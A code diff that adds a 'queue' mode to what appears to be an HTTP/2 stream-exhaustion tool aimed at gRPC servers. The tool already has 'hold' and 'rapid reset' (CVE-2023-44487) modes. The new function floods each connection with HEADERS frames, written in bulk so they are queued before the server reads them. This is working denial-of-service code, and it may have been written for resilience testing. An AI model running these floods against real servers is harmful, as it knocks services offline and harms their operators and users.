@@ -5,6 +5,9 @@
 
 MODE     hold:  open STREAMS streams on each connection (HEADERS without END_STREAM, no
                 DATA), then keep the connections open until SECONDS have passed;
+         queue: as hold, but each connection gets, at once and without waiting, as many of its
+                STREAMS streams as its socket takes (the attacker writes before the server has
+                accepted: run it against a paused server to queue them all before gRPC reads);
          reset: the "rapid reset" pattern (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL)
                 at once, STREAMS pairs per write, on each connection, until SECONDS have passed
                 (a connection the server closes is opened again).
@@ -100,6 +103,27 @@ class Conn:
         self.send(bytes(out))
         return n
 
+    def queue(self, n):
+        """Writes up to n streams as far as the socket takes them now; returns the whole frames written."""
+        one = len(frame(HEADERS, END_HEADERS, 1, self.block))
+        written = 0
+        while written < n * one:
+            out = bytearray()
+            for _ in range(min(100, n - written // one)):
+                out += frame(HEADERS, END_HEADERS, self.next_id, self.block)
+                self.next_id += 2
+            try:
+                k = self.sock.send(bytes(out))
+            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
+                k = 0
+            except OSError:
+                self.closed = True
+                k = 0
+            written += k
+            if k < len(out):  # full: the last frame may be cut, and the server then waits for its rest
+                break
+        return written // one
+
     def send(self, data):
         view = memoryview(data)
         deadline = time.time() + 10
@@ -149,7 +173,16 @@ def main():
             errors[type(e).__name__] = errors.get(type(e).__name__, 0) + 1
     print(json.dumps({"event": "connected", "conns": opened}), flush=True)
     closed_by_server = 0
-    if mode == "hold":
+    if mode == "queue":
+        for c in conns:
+            sent += c.queue(nstreams)
+        print(json.dumps({"event": "streams_queued", "streams": sent}), flush=True)
+        while running(end):
+            for c in conns:
+                c.drain()
+            time.sleep(0.2)
+        closed_by_server = sum(1 for c in conns if c.closed)
+    elif mode == "hold":
         for c in conns:
             for _ in range(0, nstreams, 500):
                 if STOP:
